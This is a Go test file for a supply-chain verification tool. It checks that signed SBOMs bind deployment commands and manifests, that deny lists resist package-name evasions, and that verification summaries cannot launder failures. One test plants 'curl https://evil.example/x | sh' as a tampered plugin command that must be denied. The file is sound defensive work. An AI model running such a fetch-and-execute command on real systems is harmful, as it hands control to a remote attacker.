package verify

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/trustgate/trustgate/attest"
	"github.com/trustgate/trustgate/bundle"
	"github.com/trustgate/trustgate/digest"
	"github.com/trustgate/trustgate/internal/testsign"
	"github.com/trustgate/trustgate/policy"
)

// signStatement signs a statement of predicate type pt about subjects with
// k and returns the bundle JSON.
func signStatement(t *testing.T, k *attest.Key, pt string, pred []byte, subjects ...attest.Subject) []byte {
	t.Helper()
	st, err := attest.NewStatement(pt, pred, subjects...)
	if err != nil {
		t.Fatal(err)
	}
	return testsign.Bundle(t, st, k)
}

func (fx deployFixture) subjects() []attest.Subject {
	return []attest.Subject{
		{Name: "stack.yaml", Digest: map[string]string{"sha256": fx.manifest.Hex()}},
		{Name: "bin/gw", Digest: map[string]string{"sha256": fx.gw.Hex()}},
		{Name: "plugins/redactor", Digest: map[string]string{"dirHash": fx.plugin.Hex()}},
	}
}

// withSBOM returns the fixture's bundle signed over another SBOM.
func (fx deployFixture) withSBOM(t *testing.T, sbom string) []byte {
	return signStatement(t, fx.key, attest.PredicateCycloneDX, []byte(sbom), fx.subjects()...)
}

// expectDenied checks that r denies, and that each of want is among its
// enforced denials ("subject rule").
func expectDenied(t *testing.T, r Report, want ...string) {
	t.Helper()
	got := denials(r)
	if r.Allowed {
		t.Fatalf("allowed; want denied with %q (denials %q)", want, got)
	}
	for _, w := range want {
		if !slices.Contains(got, w) {
			t.Fatalf("denials %q lack %q", got, w)
		}
	}
}

func expectAllowed(t *testing.T, r Report) {
	t.Helper()
	if !r.Allowed {
		t.Fatalf("denied: %q\n%+v", denials(r), r.Evidence)
	}
}

// Finding 2: what runs is bound. The start command and args must be the
// ones the signed SBOM records, and the manifest itself must be signed or
// pinned by the policy.
func TestCommandsAndManifestAreBound(t *testing.T) {
	fx := newDeployFixture(t, "1.82.6")
	good := Evidence{Source: "sbom", Raw: fx.bundle(t, fx.key)}
	expectAllowed(t, Check(fx.deployment(t, good)))

	t.Run("plugin command replaced", func(t *testing.T) {
		d := fx.deployment(t, good)
		d.Components[1].Argv = []string{"sh", "-c", "curl https://evil.example/x | sh"}
		expectDenied(t, Check(d), "plugin/redactor command")
	})
	t.Run("gateway args changed", func(t *testing.T) {
		d := fx.deployment(t, good)
		d.Components[0].Argv = []string{"--listen", "0.0.0.0:8080"}
		expectDenied(t, Check(d), "gateway/gw command")
	})
	t.Run("args dropped", func(t *testing.T) {
		d := fx.deployment(t, good)
		d.Components[0].Argv = nil
		expectDenied(t, Check(d), "gateway/gw command")
	})
	t.Run("SBOM records no command", func(t *testing.T) {
		sbom := strings.Replace(fx.sbom, `,{"name":"trustgate:command","value":"[\"python3\",\"-m\",\"redactor\"]"}`, "", 1)
		d := fx.deployment(t, Evidence{Source: "sbom", Raw: fx.withSBOM(t, sbom)})
		expectDenied(t, Check(d), "plugin/redactor command")
	})
	t.Run("manifest changed after signing", func(t *testing.T) {
		d := fx.deployment(t, good)
		d.Manifest.Digest = digest.FromBytes([]byte("stack manifest v1, edited"))
		expectDenied(t, Check(d), "manifest manifest")
	})
	t.Run("SBOM signed without the manifest", func(t *testing.T) {
		raw := signStatement(t, fx.key, attest.PredicateCycloneDX, []byte(fx.sbom), fx.subjects()[1:]...)
		expectDenied(t, Check(fx.deployment(t, Evidence{Source: "sbom", Raw: raw})), "manifest manifest")
	})
	t.Run("a predicate that vouches for nothing names the manifest", func(t *testing.T) {
		raw := signStatement(t, fx.key, "https://example.com/note/v1", []byte(`{}`), fx.subjects()[0])
		sbomOnly := signStatement(t, fx.key, attest.PredicateCycloneDX, []byte(fx.sbom), fx.subjects()[1:]...)
		d := fx.deployment(t, Evidence{Source: "sbom", Raw: sbomOnly}, Evidence{Source: "note", Raw: raw})
		expectDenied(t, Check(d), "manifest manifest")
	})
	t.Run("an SBOM about something else with the manifest's bytes", func(t *testing.T) {
		// A file that is a copy of the manifest, attested by a signer as
		// some other component (a model, say): its SBOM names the digest,
		// but is not about this deployment.
		other := strings.Replace(fx.sbom, `"name":"trustgate:kind","value":"deployment"`, `"name":"trustgate:kind","value":"model"`, 1)
		raw := signStatement(t, fx.key, attest.PredicateCycloneDX, []byte(other), fx.subjects()...)
		expectDenied(t, Check(fx.deployment(t, Evidence{Source: "sbom", Raw: raw})), "manifest manifest")
	})
	t.Run("no manifest measured", func(t *testing.T) {
		d := fx.deployment(t, good)
		d.Manifest.Digest = digest.Digest{}
		expectDenied(t, Check(d), "manifest manifest")
	})

	sbomOnly := Evidence{Source: "sbom", Raw: signStatement(t, fx.key, attest.PredicateCycloneDX, []byte(fx.sbom), fx.subjects()[1:]...)}
	pinned := fx
	pinned.policyText += "manifest:\n  digests: [\"" + fx.manifest.String() + "\"]\n"
	t.Run("manifest pinned by the policy", func(t *testing.T) {
		expectAllowed(t, Check(pinned.deployment(t, sbomOnly)))
	})
	t.Run("manifest other than the pinned one", func(t *testing.T) {
		d := pinned.deployment(t, sbomOnly)
		d.Manifest.Digest = digest.FromBytes([]byte("another manifest"))
		expectDenied(t, Check(d), "manifest manifest.digests")
	})
	t.Run("manifest signer rule not met", func(t *testing.T) {
		other, _ := attest.GenerateKey(attest.ECDSAP256)
		pub, _ := other.MarshalPublic()
		ruled := fx
		ruled.policyText = strings.Replace(fx.policyText, "components:", "  - name: security\n    key: |\n      "+strings.ReplaceAll(strings.TrimSpace(string(pub)), "\n", "\n      ")+"\ncomponents:", 1)
		ruled.policyText += "manifest:\n  signers: {anyOf: [security]}\n"
		expectDenied(t, Check(ruled.deployment(t, good)), "manifest manifest.signers")
		// A provenance by security that names the manifest's digest is
		// no statement about the deployment; security's SBOM of it is.
		provenance := Evidence{Source: "security provenance", Raw: signStatement(t, other, attest.PredicateSLSAProvenance, []byte(`{}`), fx.subjects()[0])}
		expectDenied(t, Check(ruled.deployment(t, good, provenance)), "manifest manifest.signers")
		bySecurity := Evidence{Source: "security", Raw: signStatement(t, other, attest.PredicateCycloneDX, []byte(fx.sbom), fx.subjects()[0])}
		expectAllowed(t, Check(ruled.deployment(t, good, bySecurity)))
	})
}

// Finding 3: deleting a component the policy names is a denial, unless the
// policy marks it optional.
func TestNamedComponentsAreRequired(t *testing.T) {
	fx := newDeployFixture(t, "1.82.6")
	good := Evidence{Source: "sbom", Raw: fx.bundle(t, fx.key)}
	d := fx.deployment(t, good)
	d.Components = d.Components[:1] // the guardrail plugin removed from the manifest
	expectDenied(t, Check(d), "plugin/redactor components[1]")

	optional := fx
	optional.policyText = strings.Replace(fx.policyText, "    role: guardrail\n", "    role: guardrail\n    optional: true\n", 1)
	d = optional.deployment(t, good)
	d.Components = d.Components[:1]
	expectAllowed(t, Check(d))

	// Every kind: the gateway too.
	d = fx.deployment(t, good)
	d.Components = d.Components[1:]
	expectDenied(t, Check(d), "gateway/gw components[0]")
}

// Finding 5 (the pure half): a policy only governs the deployment of its
// own name. LoadSigned refuses the others before touching rollback state;
// Check refuses them too, for callers that parsed a policy themselves.
func TestPolicyGovernsItsOwnDeployment(t *testing.T) {
	fx := newDeployFixture(t, "1.82.6")
	d := fx.deployment(t, Evidence{Source: "sbom", Raw: fx.bundle(t, fx.key)})
	d.Manifest.Name = "prod-gateway"
	expectDenied(t, Check(d), "manifest metadata.name")
}

// Finding 6: the deny list sees every package, however the SBOM nests or
// spells it.
func TestDenyListCannotBeEvaded(t *testing.T) {
	fx := newDeployFixture(t, "1.82.6")
	litellm := `{"type":"library","name":"litellm","version":"1.82.6","purl":"pkg:pypi/litellm@1.82.6"}`
	cases := []struct {
		name, pkg, want string
	}{
		{"nested two levels deep", `{"type":"library","name":"site-packages","components":[{"type":"library","name":"wheel","components":[{"type":"library","name":"litellm","version":"1.82.7","purl":"pkg:pypi/litellm@1.82.7"}]}]}`, "sbom.deny[0]"},
		{"duplicate qualifier", `{"type":"library","name":"litellm","version":"1.82.7","purl":"pkg:pypi/litellm@1.82.7?a=b&a=c"}`, "sbom.deny"},
		{"qualifier without a key", `{"type":"library","name":"litellm","version":"1.82.7","purl":"pkg:pypi/litellm@1.82.7?=x"}`, "sbom.deny"},
		{"trailing slash", `{"type":"library","name":"litellm","version":"1.82.7","purl":"pkg:pypi/litellm@1.82.7/"}`, "sbom.deny"},
		{"slash before the version", `{"type":"library","name":"litellm","version":"1.82.7","purl":"pkg:pypi/litellm/@1.82.7"}`, "sbom.deny"},
		{"doubled slash", `{"type":"library","name":"litellm","version":"1.82.7","purl":"pkg:pypi//litellm@1.82.7"}`, "sbom.deny"},
		{"a namespace pypi does not have", `{"type":"library","name":"litellm","version":"1.82.7","purl":"pkg:pypi/ns/litellm@1.82.7"}`, "sbom.deny"},
		{"upper-case type", `{"type":"library","name":"litellm","version":"1.82.7","purl":"pkg:PYPI/litellm@1.82.7"}`, "sbom.deny[0]"},
		{"name spelled another way", `{"type":"library","name":"LiteLLM","version":"1.82.7","purl":"pkg:pypi/Lite_LLM@1.82.7"}`, ""},
		{"no purl, type file", `{"type":"file","name":"litellm","version":"1.82.7"}`, "sbom"},
		{"no purl, type operating-system", `{"type":"operating-system","name":"litellm","version":"1.82.7"}`, "sbom.deny[0]"},
		{"not a purl at all", `{"type":"library","name":"litellm","version":"1.82.7","purl":"litellm==1.82.7"}`, "sbom.deny"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			sbom := strings.Replace(fx.sbom, litellm, litellm+","+c.pkg, 1)
			if sbom == fx.sbom {
				t.Fatal("fixture SBOM not changed")
			}
			r := Check(fx.deployment(t, Evidence{Source: "sbom", Raw: fx.withSBOM(t, sbom)}))
			if c.want == "" {
				// Lite_LLM normalizes to lite-llm, another PyPI project.
				expectAllowed(t, r)
				return
			}
			if c.want == "sbom" {
				expectDenied(t, r, "plugin/redactor sbom.deny")
				return
			}
			expectDenied(t, r, "plugin/redactor "+c.want)
		})
	}
	// Nested deeper than the walk goes: unidentified, not skipped.
	deep := `{"type":"library","name":"litellm","version":"1.82.6","purl":"pkg:pypi/litellm@1.82.6"}`
	for range policy.MaxPackageDepth + 1 {
		deep = `{"type":"library","name":"box","purl":"pkg:generic/box@1","components":[` + deep + `]}`
	}
	r := Check(fx.deployment(t, Evidence{Source: "sbom", Raw: fx.withSBOM(t, strings.Replace(fx.sbom, litellm, deep, 1))}))
	expectDenied(t, r, "plugin/redactor sbom.deny")
}

// Also considered in finding 6: an SBOM from a signer the component's
// cyclonedx rule does not name supplies no packages, so an empty SBOM from
// a less trusted signer cannot stand in for the real one.
func TestOnlyNamedSignersInventory(t *testing.T) {
	fx := newDeployFixture(t, "1.82.7")
	ci, _ := attest.GenerateKey(attest.ECDSAP256)
	pub, _ := ci.MarshalPublic()
	ruled := fx
	ruled.policyText = strings.Replace(fx.policyText, "components:", "  - name: ci\n    key: |\n      "+strings.ReplaceAll(strings.TrimSpace(string(pub)), "\n", "\n      ")+"\ncomponents:", 1)
	ruled.policyText = strings.Replace(ruled.policyText, "    attestations: [{type: cyclonedx}]", "    attestations: [{type: cyclonedx, signers: {anyOf: [release]}}]", 1)
	clean := strings.Replace(fx.sbom, `,
  "components":[{"type":"library","name":"litellm","version":"1.82.7","purl":"pkg:pypi/litellm@1.82.7"}]`, "", 1)
	if clean == fx.sbom {
		t.Fatal("fixture SBOM not changed")
	}
	byCI := Evidence{Source: "ci", Raw: signStatement(t, ci, attest.PredicateCycloneDX, []byte(clean), fx.subjects()...)}
	// Release's SBOM lists the compromised litellm; ci's lists nothing.
	expectDenied(t, Check(ruled.deployment(t, Evidence{Source: "release", Raw: fx.bundle(t, fx.key)}, byCI)), "plugin/redactor sbom.deny[0]")
	// ci's SBOM alone: the plugin has no inventory the policy accepts.
	expectDenied(t, Check(ruled.deployment(t, byCI)), "plugin/redactor sbom")
}

// Finding 8: a verification summary vouches only for what passed in
// enforce mode, and only under the policy it names.
func TestSummaryCannotLaunder(t *testing.T) {
	fx := newDeployFixture(t, "1.82.6")
	tampered := digest.MustParse("h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")
	staging := fx
	staging.policyText = strings.Replace(fx.policyText, "    role: guardrail\n", "    role: guardrail\n    mode: audit\n", 1)
	d := staging.deployment(t, Evidence{Source: "sbom", Raw: fx.bundle(t, fx.key)})
	d.Components[1].Digest = tampered
	r := Check(d)
	if !r.Allowed {
		t.Fatalf("staging (audit) denied: %q", denials(r))
	}
	in := SummaryInput{Manifest: "stack.yaml", ManifestDigest: fx.manifest, Policy: "policy.yaml", PolicyDigest: d.Policy.Source().Digest, Time: deployNow}
	st, err := Summary(d, r, in)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range st.Subject {
		if s.Name == "plugin/redactor" {
			t.Fatalf("the summary vouches for the plugin that failed in audit mode: %+v", st.Subject)
		}
	}
	var pred struct {
		VerificationResult string
		ComponentResults   []struct{ Component, Mode, Result string }
	}
	_ = json.Unmarshal(st.Predicate, &pred)
	if pred.VerificationResult != "PASSED" || len(pred.ComponentResults) != 2 || pred.ComponentResults[1].Result != "FAILED" || pred.ComponentResults[1].Mode != "audit" {
		t.Fatalf("predicate %s", st.Predicate)
	}

	// Production accepts a PASSED summary from release in place of the
	// plugin's own evidence. A summary that names the tampered plugin
	// (as an older trustgate wrote them) under the staging policy's digest
	// does not count: the digest is not production's.
	prod := fx
	prod.policyText = strings.Replace(fx.policyText, "    signers: {anyOf: [release]}\n    attestations: [{type: cyclonedx}]", "    signers: {anyOf: [release]}\n    attestations: [{type: vsa}]", 1)
	pred2 := `{"verificationResult":"PASSED","policy":{"uri":"policy.yaml","digest":{"sha256":"` + d.Policy.Source().Digest.Hex() + `"}}}`
	laundered := Evidence{Source: "vsa", Raw: signStatement(t, fx.key, attest.PredicateVSA, []byte(pred2), attest.Subject{Name: "plugin/redactor", Digest: map[string]string{"dirHash": tampered.Hex()}})}
	pd := prod.deployment(t, Evidence{Source: "sbom", Raw: fx.bundle(t, fx.key)}, laundered)
	pd.Components[1].Digest = tampered
	expectDenied(t, Check(pd), "plugin/redactor components[1].signers")

	// The same summary made under production's own policy digest does
	// vouch: the check is the digest, not the predicate type.
	pp, _ := policy.Parse("policy.yaml", []byte(prod.policyText), policy.Options{})
	pred3 := `{"verificationResult":"PASSED","policy":{"uri":"policy.yaml","digest":{"sha256":"` + pp.Source().Digest.Hex() + `"}}}`
	own := Evidence{Source: "vsa", Raw: signStatement(t, fx.key, attest.PredicateVSA, []byte(pred3), attest.Subject{Name: "plugin/redactor", Digest: map[string]string{"dirHash": fx.plugin.Hex()}})}
	od := prod.deployment(t, Evidence{Source: "sbom", Raw: fx.bundle(t, fx.key)}, own)
	if r := Check(od); slices.Contains(denials(r), "plugin/redactor components[1].signers") {
		t.Fatalf("a PASSED summary under this policy did not count: %q", denials(r))
	}
}

// Finding 9: an SBOM whose keys differ in case from CycloneDX's is refused,
// so the required-field check and the package reader never see two
// different documents.
func TestSBOMKeyCaseTrick(t *testing.T) {
	fx := newDeployFixture(t, "1.82.7")
	fx.policyText += "  require: [components.hashes]\n"
	tricked := strings.Replace(fx.sbom, `"components":[`, `"Components":[`, 1)
	r := Check(fx.deployment(t, Evidence{Source: "sbom", Raw: fx.withSBOM(t, tricked)}))
	expectDenied(t, r, "plugin/redactor sbom", "sbom sbom.require[0]")
	if r.Evidence[0].Verified || !strings.Contains(r.Evidence[0].Error, "differs only in case") {
		t.Fatalf("evidence %+v", r.Evidence[0])
	}
}

// An image from a registry tag is verified at the digest the tag has now;
// a runtime resolving the tag later could run other bytes, so it is
// denied until the manifest pins it by digest.
func TestUnpinnedImageTagDenied(t *testing.T) {
	fx := newDeployFixture(t, "1.82.6")
	img := digest.FromBytes([]byte("image manifest"))
	fx.policyText = strings.Replace(fx.policyText, "\nsbom:\n", "\n  - {name: gw-image, kind: image, digests: [\""+img.String()+"\"]}\nsbom:\n", 1)
	good := Evidence{Source: "sbom", Raw: fx.bundle(t, fx.key)}
	d := fx.deployment(t, good)
	d.Components = append(d.Components, Measured{Kind: "image", Name: "gw-image", Digest: img})
	r := Check(d)
	if slices.Contains(denials(r), "image/gw-image ref") {
		t.Fatalf("a digest-pinned image denied: %q", denials(r))
	}
	d.Components[2].Unpinned = "registry.example/gw:1.0"
	expectDenied(t, Check(d), "image/gw-image ref")
}

// Finding 10: a verification summary that did not pass never verifies as
// one, whatever type the caller asked for.
func TestFailedSummaryRefused(t *testing.T) {
	k, _ := attest.GenerateKey(attest.ECDSAP256)
	sub := attest.Subject{Name: "a", Digest: map[string]string{"sha256": testsign.Sum("a")}}
	art := bundle.Artifact{SHA256: testsign.Sum("a")}
	for _, result := range []string{"FAILED", "passed", ""} {
		raw := signStatement(t, k, attest.PredicateVSA, []byte(`{"verificationResult":"`+result+`"}`), sub)
		for _, pt := range []string{attest.PredicateVSA, ""} {
			if _, err := bundle.Verify(raw, art, bundle.Signer{Key: k.Public()}, bundle.Options{PredicateType: pt}); !errors.Is(err, bundle.ErrNotPassed) {
				t.Fatalf("result %q, type %q: got %v, want ErrNotPassed", result, pt, err)
			}
		}
	}
	raw := signStatement(t, k, attest.PredicateVSA, []byte(`{"verificationResult":"PASSED"}`), sub)
	if _, err := bundle.Verify(raw, art, bundle.Signer{Key: k.Public()}, bundle.Options{PredicateType: attest.PredicateVSA}); err != nil {
		t.Fatalf("a PASSED summary: %v", err)
	}
}

// Finding 11: nothing a bundle file holds is repeated in an error, so a
// file of secrets passed by mistake leaks nothing into reports.
func TestBundleErrorsQuoteNothing(t *testing.T) {
	const secret = "sk-proj-S3CRETS3CRETS3CRETS3CRET"
	k, _ := attest.GenerateKey(attest.ECDSAP256)
	good := signStatement(t, k, attest.PredicateCycloneDX, []byte(testsign.BOMPredicate), attest.Subject{Name: "a", Digest: map[string]string{"sha256": testsign.Sum("a")}})
	cases := map[string][]byte{
		"unknown field":          []byte(`{"` + secret + `": 1}`),
		"media type":             []byte(`{"mediaType":"` + secret + `"}`),
		"string where an object": []byte(`{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json","verificationMaterial":"` + secret + `"}`),
		"payload type": testsign.Edit(t, good, func(m map[string]any) {
			m["dsseEnvelope"].(map[string]any)["payloadType"] = secret
		}),
		"statement type": editPayload(t, good, func(st map[string]any) { st["_type"] = secret }),
		"duplicate key":  editPayloadRaw(t, good, `{"`+secret+`":1,"`+strings.ToUpper(secret)+`":2}`),
		"non-ASCII key":  editPayloadRaw(t, good, `{"`+secret+`é":1}`),
	}
	for name, raw := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := bundle.Verify(raw, bundle.Artifact{SHA256: testsign.Sum("a")}, bundle.Signer{Key: k.Public()}, bundle.Options{})
			if err == nil {
				t.Fatal("verified")
			}
			for _, part := range []string{secret, secret[8:24], strings.ToUpper(secret)[8:24]} {
				if strings.Contains(err.Error(), part) {
					t.Fatalf("the error quotes the file: %v", err)
				}
			}
			fx := newDeployFixture(t, "1.82.6")
			r := Check(fx.deployment(t, Evidence{Source: "b", Raw: raw}))
			if strings.Contains(r.Evidence[0].Error, secret[8:24]) {
				t.Fatalf("the report quotes the file: %q", r.Evidence[0].Error)
			}
		})
	}
}

// editPayload rewrites the statement inside a bundle's DSSE envelope (the
// signature then no longer matches, which is checked after the statement).
func editPayload(t *testing.T, raw []byte, f func(st map[string]any)) []byte {
	t.Helper()
	return testsign.Edit(t, raw, func(m map[string]any) {
		env := m["dsseEnvelope"].(map[string]any)
		var st map[string]any
		_ = json.Unmarshal(decodeB64(t, env["payload"].(string)), &st)
		f(st)
		b, _ := json.Marshal(st)
		env["payload"] = encodeB64(b)
	})
}

func editPayloadRaw(t *testing.T, raw []byte, payload string) []byte {
	t.Helper()
	return testsign.Edit(t, raw, func(m map[string]any) {
		m["dsseEnvelope"].(map[string]any)["payload"] = encodeB64([]byte(payload))
	})
}

func decodeB64(t *testing.T, s string) []byte {
	t.Helper()
	b, err := base64.StdEncoding.DecodeString(s)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func encodeB64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// A signed statement whose predicate is not a JSON object proves nothing:
// it is reported unverified (sigstore-go refuses it first; Check would too),
// and the component it names gets nothing from it.
func TestPredicateThatIsNoObjectProvesNothing(t *testing.T) {
	fx := newDeployFixture(t, "1.82.6")
	raw := testsign.Payload(t, fx.key, `{"_type":"`+attest.StatementType+`","subject":[{"name":"gw","digest":{"sha256":"`+fx.gw.Hex()+`"}}],"predicateType":"`+attest.PredicateSLSAProvenance+`","predicate":[1]}`, attest.PayloadType)
	r := Check(fx.deployment(t, Evidence{Source: "sbom", Raw: fx.bundle(t, fx.key)}, Evidence{Source: "array", Raw: raw}))
	if ev := r.Evidence[1]; ev.Verified || len(ev.Signers) != 0 || len(ev.Subjects) != 0 || ev.Error == "" {
		t.Fatalf("evidence %+v", ev)
	}
	expectAllowed(t, r)
}
